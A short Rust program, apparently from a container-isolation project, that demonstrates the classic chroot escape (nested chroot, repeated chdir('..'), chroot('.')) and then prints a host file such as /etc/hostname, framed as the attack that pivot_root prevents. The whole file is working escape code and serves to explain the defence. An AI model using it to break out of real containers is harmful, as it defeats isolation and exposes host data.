//! Walks out of a chroot: the attack that `pivot_root` is the answer to.
//!
//! `chroot` sets where `/` is and forgets to ask where we are. A second chroot moves the wall
//! *below* us: our working folder is now outside of it, and outside of the wall `..` meets
//! nothing that stops it until the true root. After a pivot there is no true root to reach: the
//! old one is not mounted in this namespace any more, and `..` ends at ours.
//!
//! Usage, inside a container: `escape FILE` prints FILE as the world outside has it.

use anyhow::Context;
use nix::unistd::{chdir, chroot, mkdir};

fn main() -> std::process::ExitCode {
    process::finish(escape().map(|()| 0))
}

fn escape() -> anyhow::Result<()> {
    let file = std::env::args().nth(1).unwrap_or("/etc/hostname".into());
    let _ = mkdir("/wall", nix::sys::stat::Mode::S_IRWXU);
    chroot("/wall")?; // the wall moves down, we stay where we are: above it
    (0..100).try_for_each(|_| chdir(".."))?; // up, through where the old wall was
    chroot(".")?; // the place that we have reached becomes our root
    print!("{}", std::fs::read_to_string(&file).with_context(|| format!("cannot read {file}"))?);
    Ok(())
}
